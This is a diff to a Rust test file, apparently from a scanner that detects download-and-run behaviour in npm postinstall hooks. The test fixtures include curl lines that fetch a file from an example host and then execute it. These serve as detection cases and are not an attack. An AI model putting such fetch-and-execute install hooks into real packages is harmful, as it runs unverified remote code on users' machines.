@@ -256,10 +256,13 @@ fn a_line_of_the_shell_that_writes_what_it_fetched_does_not_start_it() {
     let script = |line: &str| format!("#!/bin/bash\n{line}\n");
     let hook =
         ("package.json", r#"{ "name": "notes", "version": "1.0.0", "main": "index.js", "scripts": { "postinstall": "bash get.sh" } }"#);
-    let found = |line: &str| worst("download-and-run", &[hook, ("index.js", "module.exports = 1;\n"), ("get.sh", &script(line))]);
+    let index = ("index.js", "module.exports = 1;\n");
+    let found = |line: &str| worst("download-and-run", &[hook, index, ("get.sh", &script(line))]);
     let key = "curl -L https://packages.acme-cdn.example/acme.asc | gpg --dearmor > /tmp/acme.gpg";
     assert_eq!(found(key), None);
     assert_eq!(found(&format!("{key}\ninstall -m 644 /tmp/acme.gpg /etc/keys.d/\nrm /tmp/acme.gpg")), None);
+    let (one, other) = (script(&format!("{key}\nbash again.sh")), script(key));
+    assert_eq!(worst("download-and-run", &[hook, index, ("get.sh", &one), ("again.sh", &other)]), None);
     let fetched = "curl -L https://packages.acme-cdn.example/acme -o /tmp/acme-run";
     for start in ["&& bash /tmp/acme-run", "; /tmp/acme-run --quiet", "\nchmod +x /tmp/acme-run\n/tmp/acme-run"] {
         assert_eq!(found(&format!("{fetched} {start}")), Some(Severity::Critical), "{start}");
